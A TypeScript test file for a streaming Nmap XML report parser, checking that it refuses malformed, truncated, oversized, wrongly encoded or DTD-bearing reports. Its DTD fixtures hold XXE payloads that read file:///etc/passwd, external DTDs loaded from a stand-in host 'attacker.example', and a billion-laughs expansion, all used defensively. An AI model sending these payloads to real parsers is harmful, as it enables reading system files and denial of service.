import { parseNmapReport, ReportError, type NmapReportEvent, type ParseNmapReportOptions, type ReportErrorCode } from './index.js';

type Input = Iterable<string | Uint8Array> | AsyncIterable<string | Uint8Array>;

const collect = async (input: Input, opts?: ParseNmapReportOptions): Promise<NmapReportEvent[]> => {
  const out: NmapReportEvent[] = [];
  for await (const e of parseNmapReport(input, opts)) out.push(e);
  return out;
};

/** Parses until the refusal; returns it with whatever was yielded before. */
const refuse = async (input: Input, opts?: ParseNmapReportOptions): Promise<{ error: ReportError; before: NmapReportEvent[] }> => {
  const before: NmapReportEvent[] = [];
  try {
    for await (const e of parseNmapReport(input, opts)) before.push(e);
  } catch (error) {
    if (!(error instanceof ReportError)) throw error;
    return { error, before };
  }
  throw new Error(`expected a ReportError, but the report parsed into ${before.length} events`);
};

const expectRefusal = async (input: Input, code: ReportErrorCode, message: RegExp, opts?: ParseNmapReportOptions) => {
  const { error, before } = await refuse(input, opts);
  expect(error.code).toBe(code);
  expect(error.message).toMatch(message);
  expect(error.name).toBe('ReportError');
  expect(before.some((e) => e.kind === 'end')).toBe(false);
  return { error, before };
};

const HEAD = '<?xml version="1.0" encoding="UTF-8"?>\n<!DOCTYPE nmaprun>\n<nmaprun scanner="nmap" args="nmap -p 22 10.0.0.0/30" start="1700000000" version="7.94" xmloutputversion="1.05">\n<scaninfo type="syn" protocol="tcp" numservices="1" services="22"/>\n';
const HOST = (n: number) =>
  `<host starttime="1" endtime="2"><status state="up" reason="syn-ack" reason_ttl="64"/>\n<address addr="10.0.0.${n}" addrtype="ipv4"/>\n<hostnames><hostname name="h${n}.example" type="PTR"/></hostnames>\n<ports><port protocol="tcp" portid="22"><state state="open" reason="syn-ack" reason_ttl="64"/><service name="ssh" product="OpenSSH" method="probed" conf="10"><cpe>cpe:/a:openbsd:openssh</cpe></service></port></ports>\n</host>\n`;
const TAIL = '<runstats><finished time="3" elapsed="1.00" exit="success"/><hosts up="2" down="0" total="2"/></runstats>\n</nmaprun>\n';
const VALID = HEAD + HOST(1) + HOST(2) + TAIL;

describe('refusals: valid baseline', () => {
  it('parses the baseline used by the refusal cases below', async () => {
    expect((await collect([VALID])).map((e) => e.kind)).toEqual(['run', 'host', 'host', 'end']);
  });
});

describe('refusals: not XML / not nmap', () => {
  it.each([
    ['plain text (nmap -oN)', '\n# Nmap 7.94 scan initiated\nNmap scan report for 10.0.0.1\n', /not XML: it starts with "# Nmap 7.94 scan ini" at line 2, column 1 .*-oN/],
    ['masscan -oJ JSON', '[\n{ "ip": "10.0.0.1", "ports": [ {"port": 80} ] }\n]\n', /not XML: .*line 1, column 1.*JSON/],
    ['a mismatched close tag', '<nmaprun scanner="nmap"><host><address addr="10.0.0.1"/></hosts></nmaprun>', /not well-formed XML: unexpected close tag at line 1, column \d+/],
    ['a stray "<" between hosts', `${HEAD}${HOST(1)}<${HOST(2)}${TAIL}`, /not well-formed XML.*line 10/],
    ['an undefined entity', '<nmaprun scanner="nmap"><host comment="&foo;"/></nmaprun>', /not well-formed XML: undefined entity/],
    ['a control character', '<nmaprun scanner="nmap">\u0001</nmaprun>', /disallowed character/],
    ['two reports concatenated', VALID + VALID, /not well-formed XML/],
  ])('%s → REPORT.NOT_XML', async (_name, xml, message) => {
    await expectRefusal([xml], 'REPORT.NOT_XML', message);
  });

  it('refuses garbage after </nmaprun> without ever yielding end', async () => {
    const { before } = await expectRefusal([VALID, '<extra/>'], 'REPORT.NOT_XML', /only one root/);
    expect(before.filter((e) => e.kind === 'host')).toHaveLength(2);
  });

  it.each([
    ['<root/>', /root element is <root>, expected <nmaprun>/],
    ['<?xml version="1.0"?>\n<!-- c -->\n<NmapRun scanner="nmap"/>', /root element is <NmapRun>.*line 3/s],
    ['<nmaprun:x xmlns:nmaprun="urn:x"/>', /root element is <nmaprun:x>/],
  ])('root %s → REPORT.NOT_NMAP', async (xml, message) => {
    await expectRefusal([xml], 'REPORT.NOT_NMAP', message);
  });
});

describe('refusals: DTDs (XXE, external DTDs, entity expansion)', () => {
  it.each([
    ['XXE via SYSTEM entity', '<?xml version="1.0"?>\n<!DOCTYPE nmaprun [\n<!ENTITY xxe SYSTEM "file:///etc/passwd">\n]>\n<nmaprun scanner="nmap" args="&xxe;"/>'],
    ['external DTD (SYSTEM file:///etc/passwd)', '<?xml version="1.0"?>\n<!DOCTYPE foo SYSTEM "file:///etc/passwd">\n<nmaprun scanner="nmap"/>'],
    ['external DTD named nmaprun but pointing elsewhere', '<!DOCTYPE nmaprun SYSTEM "file:///etc/passwd"><nmaprun scanner="nmap"/>'],
    ['a PUBLIC id that is not nmap\'s', '<!DOCTYPE nmaprun PUBLIC "-//EVIL//DTD X//EN" "http://attacker.example/x.dtd"><nmaprun scanner="nmap"/>'],
    ['parameter entities', '<!DOCTYPE nmaprun [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><nmaprun scanner="nmap"/>'],
    [
      'billion laughs',
      `<?xml version="1.0"?>\n<!DOCTYPE lolz [\n <!ENTITY lol "lol">\n${Array.from({ length: 9 }, (_, i) => ` <!ENTITY lol${i + 1} "${`&lol${i || ''};`.repeat(10)}">`).join('\n')}\n]>\n<nmaprun scanner="nmap" args="&lol9;"/>`,
    ],
  ])('%s → REPORT.DTD_FORBIDDEN', async (_name, xml) => {
    await expectRefusal([xml], 'REPORT.DTD_FORBIDDEN', /DOCTYPE/);
  });

  it('refuses an internal subset as soon as it starts, without reading the rest of the stream', async () => {
    let pulled = 0;
    async function* endlessEntities() {
      yield '<?xml version="1.0"?>\n<!DOCTYPE nmaprun [\n';
      for (;;) {
        pulled++;
        if (pulled > 1000) throw new Error('the parser kept reading an endless DTD');
        yield `<!ENTITY e${pulled} "${'x'.repeat(1000)}">\n`;
      }
    }
    await expectRefusal(endlessEntities(), 'REPORT.DTD_FORBIDDEN', /internal subset/);
    expect(pulled).toBe(0);
  });

  it('refuses a DOCTYPE appearing inside the document', async () => {
    await expectRefusal(['<nmaprun scanner="nmap"><!DOCTYPE x></nmaprun>'], 'REPORT.DTD_FORBIDDEN', /DOCTYPE.*line 1/);
  });

  it.each([
    ['<!DOCTYPE nmaprun>'],
    ['<!DOCTYPE nmaprun PUBLIC "-//IDN nmap.org//DTD Nmap XML 1.04//EN" "https://svn.nmap.org/nmap/docs/nmap.dtd">'],
  ])('accepts nmap\'s own %s (never fetched)', async (doctype) => {
    const events = await collect([`<?xml version="1.0"?>\n${doctype}\n<nmaprun scanner="nmap"><host><address addr="10.0.0.1" addrtype="ipv4"/></host></nmaprun>`]);
    expect(events.map((e) => e.kind)).toEqual(['run', 'host', 'end']);
  });

  it('refuses even nmap\'s own DOCTYPE when allowNmapDoctype is false', async () => {
    await expectRefusal([`<!DOCTYPE nmaprun>\n<nmaprun scanner="nmap"/>`], 'REPORT.DTD_FORBIDDEN', /accepts none/, { allowNmapDoctype: false });
  });
});

describe('refusals: nesting depth', () => {
  it('refuses 10,000 nested elements at the 65th level instead of recursing', async () => {
    const depth = 10_000;
    const xml = `<nmaprun scanner="nmap">${'<a>'.repeat(depth)}${'</a>'.repeat(depth)}</nmaprun>`;
    const { error } = await expectRefusal([xml], 'REPORT.TOO_DEEP', /deeper than 64 levels.*line 1, column \d+/);
    expect(error.line).toBe(1);
  });

  it('counts depth inside script tables too, and honours a custom limit', async () => {
    const tables = (n: number) => `${'<table>'.repeat(n)}<elem>x</elem>${'</table>'.repeat(n)}`;
    const doc = (n: number) =>
      `<nmaprun scanner="nmap"><host><address addr="10.0.0.1" addrtype="ipv4"/><hostscript><script id="s" output="o">${tables(n)}</script></hostscript></host></nmaprun>`;
    // nmaprun > host > hostscript > script = 4 levels, then n tables, then elem
    await expect(collect([doc(10)], { maxDepth: 15 })).resolves.toHaveLength(3);
    await expectRefusal([doc(11)], 'REPORT.TOO_DEEP', /deeper than 15 levels.*<elem>/, { maxDepth: 15 });
  });
});

describe('refusals: oversized values, enforced while streaming', () => {
  const KiB = 1024;
  const MiB = 1024 * KiB;

  /** A document whose attribute/text never ends: only a streaming check can refuse it. */
  const endless = (prefix: string, chunk: string, maxChunks: number) => {
    const state = { pulled: 0 };
    async function* gen() {
      yield prefix;
      for (;;) {
        if (++state.pulled > maxChunks) throw new Error(`parser read ${maxChunks} chunks of an unbounded value without refusing it`);
        yield chunk;
      }
    }
    return { state, gen: gen() };
  };

  const PORT_OPEN = `${HEAD}<host><address addr="10.0.0.1" addrtype="ipv4"/><ports><port protocol="tcp" portid="80"><state state="open"/>`;

  it('refuses a script output attribute over the default 16 MiB limit before it ends', async () => {
    const { state, gen } = endless(`${PORT_OPEN}<script id="vulscan" output="`, 'A'.repeat(MiB), 40);
    const { before } = await expectRefusal(gen, 'REPORT.TOO_LARGE', /exceeds 16777216 characters.*maxValueSize/s);
    expect(state.pulled).toBeGreaterThanOrEqual(16);
    expect(state.pulled).toBeLessThanOrEqual(17);
    expect(before.map((e) => e.kind)).toEqual(['run']);
  });

  it('honours a configured limit for attribute values', async () => {
    const { state, gen } = endless(`${PORT_OPEN}<script id="x" output="`, 'B'.repeat(64 * KiB), 100);
    await expectRefusal(gen, 'REPORT.TOO_LARGE', /exceeds 1048576/, { maxValueSize: MiB });
    expect(state.pulled).toBeLessThanOrEqual(17);
  });

  it.each([
    ['an <elem> text', `${PORT_OPEN}<script id="x" output="o"><elem key="k">`, 'C'.repeat(64 * KiB)],
    ['text between elements', `${HEAD}<host>`, ' x'.repeat(32 * KiB)],
    ['a comment', `${HEAD}<!--`, 'D'.repeat(64 * KiB)],
    ['an attribute name', `${HEAD}<host `, 'E'.repeat(64 * KiB)],
    ['an element name', `${HEAD}<h`, 'F'.repeat(64 * KiB)],
    ['many attributes in one start tag', `${HEAD}<host `, Array.from({ length: 2000 }, (_, i) => ` a${Math.random().toString(36).slice(2)}${i}="v"`).join('')],
  ])('refuses %s that never ends', async (_what, prefix, chunk) => {
    const { state, gen } = endless(prefix, chunk, 200);
    await expectRefusal(gen, 'REPORT.TOO_LARGE', /exceeds 1048576|more than/, { maxValueSize: MiB });
    expect(state.pulled * chunk.length).toBeLessThan(2 * MiB);
  });

  it('refuses a value that crosses the limit within a single write', async () => {
    const xml = `${PORT_OPEN}<script id="x" output="${'G'.repeat(300 * KiB)}"/></port></ports></host></nmaprun>`;
    await expectRefusal([xml], 'REPORT.TOO_LARGE', /exceeds 262144/, { maxValueSize: 256 * KiB });
    await expect(collect([xml], { maxValueSize: 512 * KiB })).resolves.toHaveLength(3);
  });

  it('bounds the number of elements held for one host', async () => {
    const hostnames = Array.from({ length: 50 }, (_, i) => `<hostname name="n${i}"/>`).join('');
    const xml = `<nmaprun scanner="nmap"><host><address addr="10.0.0.1" addrtype="ipv4"/><hostnames>${hostnames}</hostnames></host></nmaprun>`;
    await expectRefusal([xml], 'REPORT.TOO_LARGE', /more than 40 elements inside one record \(<host> #1/, { maxElementsPerHost: 40 });
    await expect(collect([xml], { maxElementsPerHost: 60 })).resolves.toHaveLength(3);
  });

  it('refuses a megabyte of prolog before the root element', async () => {
    await expectRefusal([`<?xml version="1.0"?>\n<!--${'x'.repeat(2 * MiB)}-->\n<nmaprun/>`], 'REPORT.TOO_LARGE', /before the root element/);
  });
});

describe('refusals: truncated documents', () => {
  const cut = (marker: string, offset = 0) => VALID.slice(0, VALID.indexOf(marker) + offset);

  it.each([
    ['inside the XML declaration', VALID.slice(0, 12), /before the root element <nmaprun> was complete/],
    ['inside the <nmaprun> start tag', cut('version="7.94"'), /before the root element <nmaprun> was complete/],
    ['right after the header', cut('<host'), /before <\/nmaprun>.*no complete host was read/s],
    ['inside the first host', cut('<ports>'), /before <\/nmaprun>.*host #1 was incomplete/s],
    ['inside an attribute value', cut('OpenSSH', 3), /before <\/nmaprun>.*host #1 was incomplete/s],
    ['between hosts', VALID.slice(0, HEAD.length + HOST(1).length), /1 complete host\(s\) were read/],
    ['inside runstats', cut('<hosts up'), /before <\/nmaprun>.*2 complete host\(s\)/s],
    ['one byte before the end of </nmaprun>', VALID.trimEnd().slice(0, -1), /before <\/nmaprun>/],
  ])('cut %s → REPORT.TRUNCATED', async (_where, text, message) => {
    const { error } = await expectRefusal([Buffer.from(text)], 'REPORT.TRUNCATED', message);
    expect(error.message).toMatch(/truncated/);
    expect(error.line).toBeGreaterThan(0);
  });

  it('still yields the hosts read before the cut, so the consumer must wait for end', async () => {
    const text = VALID.slice(0, VALID.indexOf('<runstats>'));
    const { before } = await expectRefusal([text], 'REPORT.TRUNCATED', /truncated/);
    expect(before.map((e) => e.kind)).toEqual(['run', 'host', 'host']);
  });

  it('treats a multi-byte character cut at the very end as truncation', async () => {
    const bytes = Buffer.from(`${HEAD}<host comment="é`, 'utf8');
    await expectRefusal([bytes.subarray(0, bytes.length - 1)], 'REPORT.TRUNCATED', /multi-byte UTF-8 character/);
  });
});

describe('refusals: encoding', () => {
  it('refuses Latin-1 bytes with the byte offset, line and column of the first bad byte', async () => {
    const text = `${HEAD}<host><address addr="10.0.0.1" addrtype="ipv4"/><hostnames><hostname name="café"/></hostnames></host></nmaprun>`;
    const bytes = Buffer.from(text, 'latin1');
    const at = bytes.indexOf(0xe9);
    const line = text.slice(0, text.indexOf('é')).split('\n').length;
    const column = text.slice(0, text.indexOf('é')).split('\n').pop()!.length + 1;
    const { error } = await expectRefusal([bytes], 'REPORT.NOT_UTF8', new RegExp(`invalid byte 0xE9 at byte offset ${at} \\(line ${line}, column ${column}\\)`));
    expect(error).toMatchObject({ byteOffset: at, line, column });
    expect(error.message).toMatch(/Latin-1/);
  });

  it('locates the bad byte when it arrives in a later chunk, right after a split multi-byte character', async () => {
    const good = Buffer.from(`${HEAD}<host comment="ü`, 'utf8');
    const chunks = [good.subarray(0, good.length - 1), Buffer.concat([good.subarray(good.length - 1), Buffer.from([0x41, 0xff, 0x42])])];
    const { error } = await expectRefusal(chunks, 'REPORT.NOT_UTF8', /0xFF/);
    expect(error.byteOffset).toBe(good.length + 1);
  });

  it('names a declared non-UTF-8 encoding', async () => {
    const bytes = Buffer.from('<?xml version="1.0" encoding="ISO-8859-1"?>\n<nmaprun scanner="nmap" args="nmap -oX r\xe9sultat.xml"/>', 'latin1');
    await expectRefusal([bytes], 'REPORT.NOT_UTF8', /encoding="ISO-8859-1"/);
  });

  it.each([
    ['UTF-16LE', Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from('<nmaprun/>', 'utf16le')])],
    ['UTF-16BE', Buffer.from([0xfe, 0xff, 0, 0x3c])],
  ])('refuses %s with a hint', async (_name, bytes) => {
    await expectRefusal([bytes], 'REPORT.NOT_UTF8', /UTF-16.*PowerShell/s);
  });

  it('accepts a UTF-8 byte-order mark', async () => {
    const bytes = Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), Buffer.from(VALID)]);
    expect((await collect([bytes])).map((e) => e.kind)).toEqual(['run', 'host', 'host', 'end']);
  });
});

describe('refusals: empty input', () => {
  it.each([
    ['no chunks at all', [] as Uint8Array[], /empty \(0 bytes\)/],
    ['one zero-length buffer', [Buffer.alloc(0)], /empty \(0 bytes\)/],
    ['an empty string', [''], /empty \(0 bytes\)/],
    ['whitespace only', ['  \n\t\n'], /contains no <nmaprun> element/],
    ['an XML declaration and a comment only', ['<?xml version="1.0"?>\n<!-- Nmap 7.94 scan initiated -->\n'], /contains no <nmaprun> element/],
  ])('%s → REPORT.EMPTY', async (_name, chunks, message) => {
    await expectRefusal(chunks, 'REPORT.EMPTY', message);
  });
});

describe('refusals: bad hosts', () => {
  // Two chunks, so the good first host is yielded before the bad one is read.
  const doc = (host: string) => [`${HEAD}${HOST(1)}`, `${host}${TAIL}`];
  it.each([
    ['no <address> at all', '<host><status state="up"/><hostnames/></host>', /<host> #2 starting at line 10 has no <address>/],
    ['only a MAC address', '<host><address addr="00:11:22:33:44:55" addrtype="mac"/></host>', /has no IPv4\/IPv6 address \(only mac 00:11:22:33:44:55\)/],
    ['a redacted ipv4 address', '<host><address addr="x.x.x.x" addrtype="ipv4"/></host>', /invalid ipv4 address "x\.x\.x\.x"/],
    ['an ipv4 with an octet over 255', '<host><address addr="10.0.0.256" addrtype="ipv4"/></host>', /invalid ipv4 address/],
    ['an invalid ipv6 address', '<host><address addr="2001:db8::1::2" addrtype="ipv6"/></host>', /invalid ipv6 address/],
    ['a port number out of range', '<host><address addr="10.0.0.9" addrtype="ipv4"/><ports><port protocol="tcp" portid="70000"><state state="open"/></port></ports></host>', /invalid portid "70000"/],
    ['a port without <state>', '<host><address addr="10.0.0.9" addrtype="ipv4"/><ports><port protocol="tcp" portid="80"/></ports></host>', /port 80\/tcp without a <state>/],
  ])('%s → REPORT.BAD_HOST', async (_name, host, message) => {
    const { error, before } = await expectRefusal(doc(host), 'REPORT.BAD_HOST', message);
    expect(error.line).toBe(10);
    expect(before.filter((e) => e.kind === 'host')).toHaveLength(1);
  });
});
